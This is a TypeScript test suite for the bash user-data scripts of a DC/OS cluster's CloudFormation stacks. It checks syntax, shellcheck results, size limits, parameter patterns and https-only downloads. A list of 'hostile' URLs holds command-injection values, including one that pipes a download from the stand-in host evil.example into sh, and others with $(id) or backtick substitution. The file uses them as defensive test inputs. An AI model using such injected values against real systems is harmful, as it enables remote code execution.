/**
 * User data, read as programs: each is a shell file under stacks/userdata, put into Fn::Sub whole; once
 * CloudFormation has substituted its variables it is valid bash that shellcheck passes without a warning, it names
 * only variables its stack has, it fits EC2's limit, and it signals its own resource. (test/boot/ runs them.)
 */
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { USER_DATA_LIMIT } from '../lib/audit/user-data.js';
import { DEFINITIONS } from './helpers/template.js';
import { exampleValues, resolveUserData, signalledResource, subReferences, synthesizedTemplates, userDataPrograms } from './boot/user-data.js';

const shellcheckAvailable = spawnSync('shellcheck', ['--version'], { stdio: 'ignore' }).status === 0;

for (const [name, config] of Object.entries(DEFINITIONS)) {
  describe(`user data of the '${name}' cluster`, () => {
    const templates = synthesizedTemplates(config);
    const programs = userDataPrograms(templates);
    const values = exampleValues(templates);

    it('has a program for every master, both agent groups, the VPN gateway and the admin instance', () => {
      const ids = programs.map((p) => p.id).sort();
      const masters = Array.from({ length: config.masters.count }, (_, i) => `Master${i + 1}`);
      assert.deepEqual(ids, ['AdminInstance', ...masters, 'PrivateAgentLaunchTemplate', 'PublicAgentLaunchTemplate', 'VpnGateway'].sort());
    });

    it('is the shell files under stacks/userdata, whole, behind a shebang', () => {
      const file = (f: string) => readFileSync(`stacks/userdata/${f}`, 'utf8');
      for (const { id, text } of programs) {
        const part = id === 'VpnGateway' ? 'vpn-gateway.sh' : id === 'AdminInstance' ? 'dcos-cli.sh' : 'dcos-node.sh';
        assert.equal(text, `${file('common.sh')}\n${file(part)}`, id);
        assert.ok(text.startsWith('#!/bin/bash\n'), id);
      }
    });

    it('substitutes only its variables and the parameters, resources and pseudo parameters of its own stack', () => {
      for (const program of programs) {
        for (const ref of subReferences(program.text)) {
          const known = ref in program.variables || ref.startsWith('AWS::') || ref in (program.template.Parameters ?? {}) || ref in program.template.Resources;
          assert.ok(known, `${program.id}: \${${ref}} is unknown`);
        }
        for (const variable of Object.keys(program.variables)) {
          assert.ok(subReferences(program.text).includes(variable), `${program.id}: variable ${variable} is never used`);
        }
      }
    });

    it('is valid bash once CloudFormation substitutes its variables, and fits in 16 KB', () => {
      for (const program of programs) {
        const script = resolveUserData(program, values);
        assert.doesNotMatch(script, /\$\{[A-Za-z]+::?[A-Za-z]+\}/, program.id);
        const check = spawnSync('bash', ['-n'], { input: script, encoding: 'utf8' });
        assert.equal(check.status, 0, `${program.id}: ${check.stderr}`);
        assert.ok(Buffer.byteLength(script) <= USER_DATA_LIMIT, `${program.id}: ${Buffer.byteLength(script)} bytes`);
      }
    });

    it('passes shellcheck without a warning', function () {
      if (!shellcheckAvailable) {
        console.log('      notice: shellcheck is not installed (Debian package shellcheck); skipped');
        return this.skip();
      }
      for (const program of programs) {
        const check = spawnSync('shellcheck', ['--shell=bash', '--severity=style', '--format=gcc', '-'], { input: resolveUserData(program, values), encoding: 'utf8' });
        assert.equal(check.status, 0, `${program.id}:\n${check.stdout}${check.stderr}`);
      }
    });

    it('signals its own resource, in its own stack', () => {
      for (const program of programs) {
        assert.equal(program.variables['SignalResource'], signalledResource(program), program.id);
        assert.ok(program.template.Resources[signalledResource(program)].CreationPolicy?.ResourceSignal, program.id);
      }
    });
  });
}


describe('URLs the programs download', () => {
  const templates = synthesizedTemplates(DEFINITIONS.default!);
  const programs = userDataPrograms(templates);
  const admin = programs.find((p) => p.id === 'AdminInstance')!;
  const values = exampleValues(templates);
  const admits = (stack: string, parameter: string, value: string) => {
    const declaration = (templates[stack]!.Parameters as Record<string, { AllowedPattern?: string }>)[parameter]!;
    return new RegExp(`^(?:${declaration.AllowedPattern ?? '.*'})$`, 'u').test(value);
  };
  const stacksDeclaring = (parameter: string) => Object.keys(templates).filter((id) => parameter in (templates[id]!.Parameters as object));

  const benign = [
    '',
    'https://downloads.dcos.io/binaries/cli/linux/x86-64/dcos-2.2/dcos',
    'https://example-bucket.s3.eu-west-1.amazonaws.com/tools/dcos?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=AKIA%2F20240101%2Feu-west-1&X-Amz-Signature=0a1b',
    'https://mirror.example.com:8443/dcos(2.2)/dcos',
  ];
  const hostile = [
    'http://downloads.dcos.io/binaries/cli/linux/x86-64/dcos-2.2/dcos',
    'ftp://example.com/dcos',
    "https://example.com/dcos';curl${IFS}evil.example|sh;'",
    "https://example.com/it's",
    'https://example.com/$(id)',
    'https://example.com/`id`',
    'https://example.com/a b',
    'https://example.com/a"b',
    'https://example.com/a\\b',
    'https://user:pass@example.com/dcos',
    'https://example.com/a\nb',
  ];

  it('DcosCliUrl admits only https:// URLs without quotes, spaces, $, backticks or backslashes, in every stack that declares it', () => {
    assert.deepEqual(stacksDeclaring('DcosCliUrl').sort(), ['MasterZone', 'Root']);
    for (const stack of stacksDeclaring('DcosCliUrl')) {
      for (const url of benign) assert.ok(admits(stack, 'DcosCliUrl', url), `${stack} refuses ${url}`);
      for (const url of hostile) assert.ok(!admits(stack, 'DcosCliUrl', url), `${stack} admits ${JSON.stringify(url)}`);
    }
  });

  it('a DcosCliUrl the pattern admits reaches the admin program as exactly that one word', () => {
    for (const url of [...benign, ...hostile].filter((u) => admits('MasterZone', 'DcosCliUrl', u))) {
      const script = resolveUserData(admin, { ...values, parameters: { ...values.parameters, DcosCliUrl: url } });
      const line = script.split('\n').find((l) => l.startsWith('CLI_URL='))!;
      const run = spawnSync('bash', ['-c', `${line}\nprintf %s "$CLI_URL"`], { encoding: 'utf8' });
      assert.equal(run.stdout, url, `${line}\n${run.stderr}`);
    }
  });

  it('every parameter a program reads admits no character that could leave its shell quotes (a value is pasted in verbatim)', () => {
    const breaking = ["'", '"', '`', '$(', '\\', '\n'];
    const checked: string[] = [];
    for (const program of programs) {
      const parameters = program.template.Parameters as Record<string, { AllowedPattern?: string; AllowedValues?: unknown[]; Default?: unknown }>;
      for (const name of new Set(subReferences(program.text))) {
        const variable = program.variables[name] as { Ref?: unknown } | undefined;
        const parameter = typeof variable?.Ref === 'string' ? variable.Ref : variable === undefined ? name : undefined;
        const declaration = parameter === undefined ? undefined : parameters?.[parameter];
        if (!declaration) continue; // a resource's ID, a pseudo parameter, or a value of the template itself
        checked.push(`${program.stack}.${parameter}`);
        if (declaration.AllowedValues) {
          for (const v of declaration.AllowedValues) for (const c of breaking) assert.ok(!String(v).includes(c), `${program.stack}.${parameter} allows ${JSON.stringify(v)}`);
          continue;
        }
        assert.ok(declaration.AllowedPattern, `${program.stack}.${parameter} reaches ${program.id}'s user data with no AllowedPattern or AllowedValues`);
        const example = values.parameters[parameter!] ?? String(declaration.Default ?? 'x');
        for (const c of breaking) {
          for (const value of [c + example, example + c, example.slice(0, 3) + c + example.slice(3)]) {
            assert.ok(!admits(program.stack, parameter!, value), `${program.stack}.${parameter} admits ${JSON.stringify(value)}`);
          }
        }
      }
    }
    assert.ok(checked.length >= 5, `checked ${checked.join(', ')}`);
  });

  it('fetch downloads over https only, with TLS 1.2 or later and no redirect to anything else', () => {
    const fetch = /^fetch\(\) \{\n[\s\S]*?^\}/m.exec(readFileSync('stacks/userdata/common.sh', 'utf8'))![0];
    const run = spawnSync('bash', ['-c', `fail() { echo "FAIL: $1"; exit 1; }\ncurl() { echo "curl $*" >&2; echo 200; }\n${fetch}\nfetch "$1" /dev/null`, 'fetch', 'http://downloads.example.com/dcos'], { encoding: 'utf8' });
    assert.equal(run.status, 1);
    assert.equal(run.stdout.trim(), 'FAIL: refusing to fetch http://downloads.example.com/dcos: only https:// URLs are downloaded (plain http could be swapped in transit)');
    assert.equal(run.stderr, '', 'curl never ran');
    const ok = spawnSync('bash', ['-c', `fail() { echo "FAIL: $1"; exit 1; }\ncurl() { echo "curl $*" >&2; echo 200; }\n${fetch}\nfetch "$1" /dev/null`, 'fetch', 'https://downloads.example.com/dcos'], { encoding: 'utf8' });
    assert.equal(ok.status, 0, ok.stdout);
    assert.match(ok.stderr, /^curl -sSL --proto =https --proto-redir =https --tlsv1\.2 /);
  });
});

describe('architecture-specific downloads', () => {
  it("the AWS CLI installer is the one for the machine's architecture (uname -m: x86_64 or aarch64)", () => {
    const ensure = /^ensure_aws_cli\(\) \{\n[\s\S]*?^\}/m.exec(readFileSync('stacks/userdata/common.sh', 'utf8'))![0];
    for (const machine of ['x86_64', 'aarch64']) {
      const stubs = `command() { return 1; }\nuname() { echo ${machine}; }\nfetch() { echo "$1"; }\nunzip() { return 1; }\n`;
      const run = spawnSync('bash', ['-c', `${stubs}${ensure}\nensure_aws_cli || true`], { encoding: 'utf8' });
      assert.equal(run.stdout.trim(), `https://awscli.amazonaws.com/awscli-exe-linux-${machine}.zip`, run.stderr);
    }
  });
});
